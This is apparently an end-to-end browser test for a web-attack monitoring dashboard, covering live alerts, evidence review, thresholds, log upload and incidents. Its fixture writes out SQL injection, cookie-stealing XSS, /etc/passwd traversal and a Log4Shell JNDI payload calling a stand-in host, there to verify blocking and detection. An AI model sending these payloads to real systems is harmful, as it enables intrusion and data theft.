/**
 * The analyst's day in a real browser against the real stack (issue 5, "What will be measured"):
 * register the first admin and sign in through the form; watch attacks sent through the reverse
 * proxy arrive live in the alerts table (Server-Sent Events) within 2 s each; open one, see the
 * decoded evidence marked and the rule, label it a false positive; lower the brute-force threshold;
 * upload an sshd log whose brute force only becomes an incident under the new threshold, read the
 * rejected line in the upload report, open the incident. Every page is screenshotted; any console
 * error, uncaught exception or CSP violation fails the test.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CAN_RUN, openNav, ROOT, screenshot, signIn, useBrowserSession } from './harness.js';

/** Issue 5: an attack is in the live table within 2 s of being sent. */
const LIVE_DEADLINE_MS = 2000;
const ADMIN = { username: 'ana', password: 'correct horse battery staple 42' };

const ATTACKS: ReadonlyArray<{
  name: string;
  cls: string;
  path: string;
  headers?: Record<string, string>;
}> = [
  {
    name: 'sqli',
    cls: 'sqli',
    path: `/e2e-sqli/products?id=${encodeURIComponent("1' UNION SELECT username,password FROM users--")}`,
  },
  {
    name: 'xss',
    cls: 'xss',
    path: `/e2e-xss/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`,
  },
  { name: 'traversal', cls: 'traversal', path: '/e2e-traversal/download?file=../../../../etc/passwd' },
  {
    name: 'log4shell',
    cls: 'log4shell',
    path: '/e2e-log4shell/api/items',
    headers: { 'user-agent': '${jndi:ldap://203.0.113.5:1389/Exploit}' },
  },
];

interface EventDetail {
  id: string;
  labels?: { analyst?: string };
  findings: Array<{ rule: string; class: string; evidence: string }>;
}

describe.skipIf(!CAN_RUN)('dashboard: the analyst day in Chromium', () => {
  const session = useBrowserSession();

  it('register, live alerts, evidence, false positive, threshold, upload, incident', async () => {
    const { stack, page, watch } = session;
    // Register the first admin (the form logs in after it), sign out, sign in through the form.
    await page.goto(`${stack.api}/`);
    await expect
      .poll(() => page.getByTestId('register-intro').textContent())
      .toContain('first administrator');
    await screenshot(page, 'register');
    await signIn(page, ADMIN.username, ADMIN.password);
    expect(await page.getByTestId('current-user').textContent()).toContain('admin');
    await page.getByTestId('logout').click();
    await page.getByTestId('login-form').waitFor();
    await expect.poll(() => page.getByTestId('login-submit').textContent()).toBe('Sign in');
    await screenshot(page, 'login');
    await signIn(page, ADMIN.username, ADMIN.password);
    await page.getByTestId('overview-page').waitFor();

    // Alerts, live: each attack through the proxy appears within the deadline.
    await openNav(page, 'alerts');
    await page.getByTestId('alerts-page').waitFor();
    await page.locator('[data-testid="stream-state"].live').waitFor();
    const latencies: Record<string, number> = {};
    const ids: Record<string, string> = {};
    for (const a of ATTACKS) {
      const row = page.getByTestId('alerts-row').filter({ hasText: `/e2e-${a.name}/` });
      const sent = performance.now();
      const [, res] = await Promise.all([
        row.waitFor({ state: 'attached', timeout: LIVE_DEADLINE_MS }),
        fetch(`${stack.proxy}${a.path}`, { headers: a.headers ?? {} }),
      ]);
      latencies[a.name] = Math.round(performance.now() - sent);
      expect(res.status, `${a.name} is blocked by the proxy`).toBe(403);
      ids[a.name] = (await row.getAttribute('data-event-id'))!;
      expect(await row.textContent()).toContain(`${a.cls}.`);
    }
    console.log(`live latency (send → row in the alerts table, ms): ${JSON.stringify(latencies)}`);
    await screenshot(page, 'alerts');

    // The drawer: decoded evidence marked, the rule named; label it a false positive.
    await page.locator(`[data-testid="alerts-row"][data-event-id="${ids.sqli}"]`).click();
    const drawer = page.getByTestId('event-drawer');
    await drawer.getByTestId('findings').waitFor();
    const marks = await drawer.getByTestId('request-line').locator('mark').allTextContents();
    expect(marks.join(' ')).toMatch(/UNION SELECT/i);
    expect(marks.join(' ')).not.toContain('%20');
    const rules = await drawer.getByTestId('finding-row').locator('code').first().textContent();
    expect(rules).toMatch(/^sqli\./);
    await screenshot(page, 'drawer');
    await drawer.getByTestId('label-benign').click();
    await expect.poll(() => drawer.getByTestId('action-notice').textContent()).toContain('false positive');
    const stored = await stack.call<EventDetail>(`/api/v1/events/${encodeURIComponent(ids.sqli!)}`);
    expect(stored.labels?.analyst).toBe('benign');
    await expect.poll(() => drawer.getByTestId('event-labels').textContent()).toContain('analyst: benign');
    await drawer.getByTestId('drawer-close').click();

    // Thresholds: brute force at 3 failures (the log below has 5, under the default 8).
    await openNav(page, 'thresholds');
    const field = page.getByTestId('threshold-brute_force.threshold');
    await field.fill('3');
    await page.getByTestId('threshold-save').click();
    await page.getByTestId('threshold-saved').waitFor();
    const cfg = await stack.call<{ config: { brute_force: { threshold: number } } }>(
      '/api/v1/incidents/config',
    );
    expect(cfg.config.brute_force.threshold).toBe(3);
    await screenshot(page, 'thresholds');

    // Upload the sshd log: 5 failed passwords from one address, line 4 is not a log line.
    await openNav(page, 'uploads');
    await page.getByTestId('upload-input').setInputFiles(join(ROOT, 'test/browser/testdata/auth.log'));
    const report = page.getByTestId('upload-report');
    await expect
      .poll(() => report.getByTestId('upload-status').textContent(), { timeout: 30_000 })
      .toMatch(/^(done|partial)$/);
    await report.getByTestId('upload-rejections').waitFor();
    const rejected = await report.getByTestId('rejection-row').locator('td.num').allTextContents();
    expect(rejected).toEqual(['4']);
    await screenshot(page, 'uploads');

    // Its brute-force incident is on the Incidents page; open it.
    await openNav(page, 'incidents');
    const incident = page
      .getByTestId('incident-row')
      .filter({ hasText: 'brute force' })
      .filter({ hasText: '203.0.113.7' });
    await incident.waitFor({ timeout: 20_000 });
    await screenshot(page, 'incidents');
    await incident.click();
    const detail = page.getByTestId('incident-detail');
    await detail.getByTestId('incident-timeline').waitFor();
    expect(await detail.locator('h1').textContent()).toContain('brute force');
    expect(await detail.getByTestId('incident-event').count()).toBeGreaterThanOrEqual(3);
    expect(await detail.textContent()).toContain('"threshold":3');
    await screenshot(page, 'incident-detail');

    // The other pages, for the record (and the README).
    await openNav(page, 'bans');
    await page.getByTestId('ban-value').fill('198.51.100.23');
    await page.getByTestId('ban-reason-input').fill('scanner seen in the e2e run');
    await page.getByTestId('ban-add').click();
    await page.getByTestId('ban-row').filter({ hasText: '198.51.100.23' }).waitFor();
    await screenshot(page, 'bans');
    await openNav(page, 'admin');
    await page.getByTestId('user-row').first().waitFor();
    await screenshot(page, 'admin');
    await openNav(page, 'overview');
    await page.getByTestId('overview-cards').waitFor();
    // The overview shows what was sent: the four blocked attacks, their rules, the open incident.
    await expect.poll(() => page.getByTestId('card-blocked').innerText()).toMatch(/\b[4-9]\b|\d{2}/);
    await expect.poll(() => page.getByTestId('card-incidents').innerText()).toMatch(/\b[1-9]/);
    await page
      .getByTestId('top-rules')
      .getByText(/sqli\./)
      .first()
      .waitFor();
    await page.getByTestId('timeline-chart').locator('canvas, svg').first().waitFor();
    await screenshot(page, 'overview');
    await page.getByTestId('theme-toggle').click();
    await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
    await screenshot(page, 'overview-dark');
    await openNav(page, 'alerts');
    await page.getByTestId('alerts-row').first().waitFor();
    await screenshot(page, 'alerts-dark');
    await page.getByTestId('theme-toggle').click();
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByTestId('nav-toggle').click();
    await screenshot(page, 'phone-menu');
    await page.getByTestId('nav-overview').click();
    await page.getByTestId('overview-cards').waitFor();
    await screenshot(page, 'phone-overview');
    await page.setViewportSize({ width: 1440, height: 900 });

    // The admin changes the password: signed out everywhere, the new one works, the old one not.
    const NEW_PASSWORD = 'violet-Harbor-71-drum';
    await openNav(page, 'account');
    await page.getByTestId('password-current').fill(ADMIN.password);
    await page.getByTestId('password-new').fill(NEW_PASSWORD);
    await page.getByTestId('password-confirm').fill(NEW_PASSWORD);
    await screenshot(page, 'account');
    await page.getByTestId('password-submit').click();
    await page.getByTestId('login-form').waitFor();
    const old = await fetch(`${stack.api}/api/v1/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: ADMIN.username, password: ADMIN.password }),
    });
    expect(old.status).toBe(401);
    await signIn(page, ADMIN.username, NEW_PASSWORD);
    await page.getByTestId('account-page').waitFor();

    expect(watch.dialogs).toEqual([]);
    expect(watch.problems).toEqual([]);
  }, 180_000);
});
